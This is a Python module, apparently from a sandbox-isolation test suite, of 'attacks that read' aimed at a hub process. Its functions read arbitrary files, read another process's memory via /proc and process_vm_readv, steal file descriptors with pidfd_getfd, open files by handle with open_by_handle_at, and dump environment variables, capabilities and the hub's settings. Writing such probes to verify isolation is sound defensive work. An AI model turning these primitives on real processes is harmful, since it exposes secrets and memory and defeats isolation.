"""Attacks that read: the hub's environment, memory, descriptors and files."""

from __future__ import annotations

import ctypes
import os
import stat
import struct
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def checked(result: int) -> int:
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


async def read_file(_probe, path: str) -> str:
    return Path(path).read_bytes().decode(errors="replace")


async def list_folder(_probe, path: str) -> list[str]:
    return os.listdir(path)


async def read_memory_by_file(_probe, pid: int, address: int, length: int) -> str:
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        memory.seek(address)
        return memory.read(length).decode()


async def read_memory_by_call(_probe, pid: int, address: int, length: int) -> str:
    loot = ctypes.create_string_buffer(length)
    here = Vector(ctypes.cast(loot, ctypes.c_void_p), length)
    there = Vector(ctypes.c_void_p(address), length)
    checked(libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0))
    return loot.raw.decode()


async def take_descriptor(_probe, pid: int, descriptor: int) -> str:
    # pidfd_open(2), pidfd_getfd(2)
    process = checked(libc.syscall(434, pid, 0))
    taken = checked(libc.syscall(438, process, descriptor, 0))
    return os.pread(taken, 1024, 0).decode()


async def open_by_handle(_probe, path: str) -> str:
    # name_to_handle_at(2) and open_by_handle_at(2) of the file's own folder
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(132), 136)
    mount = ctypes.c_int()
    checked(libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(mount), 0))
    folder = os.open(os.path.dirname(path), os.O_RDONLY)
    return os.read(checked(libc.open_by_handle_at(folder, handle, os.O_RDONLY)), 1024).decode()


async def read_own_descriptors(_probe) -> str:
    """Tell what lies behind every descriptor this process was given or has."""
    kinds = []
    for descriptor in range(256):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        kinds.append("file" if stat.S_ISREG(mode) or stat.S_ISDIR(mode) or stat.S_ISCHR(mode) else "pipe or socket")
    return " ".join(sorted(set(kinds)))


async def tell_environment(_probe) -> str:
    return repr(dict(os.environ)) + Path("/proc/self/environ").read_text()


async def tell_itself(_probe) -> str:
    # linux/capability.h: version 3, this process
    header, sets = ctypes.create_string_buffer(struct.pack("=Ii", 0x20080522, 0)), (ctypes.c_uint32 * 6)()
    checked(libc.capget(header, sets))
    who = f"uid={os.getuid()} gid={os.getgid()} groups={os.getgroups()} capabilities={list(sets)}"
    return f"{who} environment={dict(os.environ)} cwd={os.getcwd()}"


async def import_the_hub(_probe) -> str:
    from integrations_hub import settings

    return str(settings.environment())


async def watch_folder(_probe, path: str) -> str:
    watcher = checked(libc.inotify_init1(0))
    return f"watching {checked(libc.inotify_add_watch(watcher, path.encode(), 0xFFF))}"
